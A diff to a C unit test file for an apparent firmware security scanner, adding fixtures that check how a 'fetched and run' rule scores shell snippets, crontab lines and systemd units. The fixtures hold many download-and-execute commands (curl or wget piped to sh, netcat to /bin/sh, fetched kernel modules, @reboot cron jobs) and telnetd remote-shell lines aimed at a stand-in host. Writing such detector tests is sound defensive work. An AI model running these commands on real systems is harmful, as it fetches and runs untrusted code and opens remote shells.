@@ -47,6 +47,36 @@ static const struct {
 	{ "S=203.0.113.5\n. /etc/app.conf\nwget http://$S/x", "fw.fixed-destination", SEV_MEDIUM, false },
 	{ "wget http://203.0.113.5/x", "fw.fixed-destination", SEV_HIGH, false },
 	{ "wget http://127.0.0.1/x; curl http://10.1.2.3/x; telnet 192.168.0.1", "fw.fixed-destination", -1, false },
+	/* fetched and run: by file, pipe, substitution; checked; run or not */
+	{ "wget http://203.0.113.5/go.sh -O /tmp/go; chmod +x /tmp/go; /tmp/go", "fw.script-fetch", SEV_HIGH, false },
+	{ "wget -qO- http://203.0.113.5/go.sh | sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "curl -fsSL https://get.example.org/go.sh | sudo bash -s -- --yes", "fw.script-fetch", SEV_MEDIUM, false },
+	{ "sh -c \"$(curl -fsSL http://get.example.org/go.sh)\"", "fw.script-fetch", SEV_HIGH, false },
+	{ "eval `wget -q -O - http://203.0.113.5/go`", "fw.script-fetch", SEV_HIGH, false },
+	{ "X=$(curl -s http://203.0.113.5/go)\nlogger x\nsh -c \"$X\"", "fw.script-fetch", SEV_HIGH, false },
+	{ "X=$(curl -s http://203.0.113.5/go)\necho \"$X\" | sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "curl -s http://203.0.113.5/a.tgz | tar xz -C /opt/app\n/opt/app/run", "fw.script-fetch", SEV_HIGH, false },
+	{ "curl -s http://203.0.113.5/a.gz | gunzip > /tmp/a\nsh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
+	{ "curl -s http://203.0.113.5/a | tee /tmp/a >/dev/null; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
+	{ "cd /tmp\ncurl -O http://203.0.113.5/a.sh\nsh ./a.sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "nc 203.0.113.5 4444 | /bin/sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "rsync -a rsync://203.0.113.5/pool/ /opt/app/; /opt/app/start", "fw.script-fetch", SEV_HIGH, false },
+	{ "scp fw@203.0.113.5:/x /tmp/x && /tmp/x", "fw.script-fetch", SEV_MEDIUM, false },
+	{ "ftpget 203.0.113.5 /tmp/k.ko k.ko; insmod /tmp/k.ko", "fw.script-fetch", SEV_HIGH, false },
+	{ "ftp -n 203.0.113.5 <<E\nget run.sh\nE\nsh run.sh", "fw.script-fetch", SEV_HIGH, false },
+	{ "tftp -g -r a -l /tmp/a $1; sh /tmp/a", "fw.script-fetch", SEV_MEDIUM, false },
+	{ "opkg install http://203.0.113.5/a.ipk", "fw.script-fetch", SEV_HIGH, false },
+	{ "wget http://203.0.113.5/a.deb -O /tmp/a.deb; dpkg -i /tmp/a.deb", "fw.script-fetch", SEV_HIGH, false },
+	{ "wget http://203.0.113.5/a.py -O /tmp/a.py; python3 /tmp/a.py --x", "fw.script-fetch", SEV_HIGH, false },
+	{ "wget http://203.0.113.5/a -O /tmp/a; wget http://203.0.113.5/a.md5 -O /tmp/a.md5; md5sum -c /tmp/a.md5 && sh /tmp/a",
+	  "fw.script-fetch", SEV_LOW, false },
+	{ "wget http://203.0.113.5/a -O /tmp/a; gpg --verify /etc/k.sig /tmp/a && sh /tmp/a", "fw.script-fetch", SEV_INFO, false },
+	{ "wget http://203.0.113.5/a -O /tmp/a; sh /opt/a", "fw.script-fetch", -1, false },
+	{ "curl -s http://203.0.113.5/time | cut -d: -f2", "fw.script-fetch", -1, false },
+	{ "X=$(curl -s http://203.0.113.5/v); echo $X > /tmp/version; sh /etc/init.d/app restart", "fw.script-fetch", -1, false },
+	{ "curl -s http://203.0.113.5/list > /tmp/list; echo start | sh /opt/app.sh", "fw.script-fetch", -1, false },
+	{ "curl -o /tmp/x -T /tmp/y http://203.0.113.5/; sh /tmp/x", "fw.script-fetch", -1, false },
+	{ "opkg update; opkg install tcpdump", "fw.script-fetch", -1, false },
 	/* F9 */
 	{ "telnetd -l /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
 	{ "[ -f /etc/debug ] && telnetd", "fw.remote-shell", SEV_HIGH, true },
@@ -74,6 +104,33 @@ static void scripts_give_what_they_do_and_no_more(void **state)
 		if (got != scripts[i].severity)
 			fail_msg("script %zu: severity %d, expected %d: %s\n%s", i, got, scripts[i].severity, f ? f->title : "no finding",
 				 scripts[i].text);
+		fake_end(&k);
+	}
+}
+
+static void lines_of_cron_and_units_are_read(void **state)
+{
+	static const struct {
+		const char *path, *text;
+		enum scene_kind kind;
+		int severity;
+	} tables[] = {
+		{ "etc/crontab", "SHELL=/bin/sh\n# * * * * * root wget -qO- http://203.0.113.5/c | sh\n0 3 * * * root /usr/bin/rotate\n",
+		  SCENE_CRON, -1 },
+		{ "etc/crontab", "*/5 * * * * root wget -qO- http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
+		{ "var/spool/cron/crontabs/root", "@reboot curl -s http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
+		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT, SEV_HIGH },
+		{ "lib/systemd/system/a.service", "[Service]\nDescription=curl http://203.0.113.5/c | sh\n", SCENE_UNIT, -1 },
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
+		struct fake k;
+		fake_begin(&k);
+		assert_int_equal(scene_kind_of(span_str(tables[i].path), span_str(tables[i].text)), tables[i].kind);
+		(void)fake_file(&k, tables[i].path, tables[i].kind, tables[i].text);
+		fake_run(&k);
+		const struct finding *f = fake_found(&k, "fw.script-fetch");
+		assert_int_equal(f ? (int)f->severity : -1, tables[i].severity);
 		fake_end(&k);
 	}
 }
@@ -645,6 +702,7 @@ static void a_library_that_acts_by_itself_is_told_once(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(lines_of_cron_and_units_are_read),
 		cmocka_unit_test(scripts_give_what_they_do_and_no_more),
 		cmocka_unit_test(no_secret_leaves),
 		cmocka_unit_test(constant_destination_fires_and_configured_does_not),
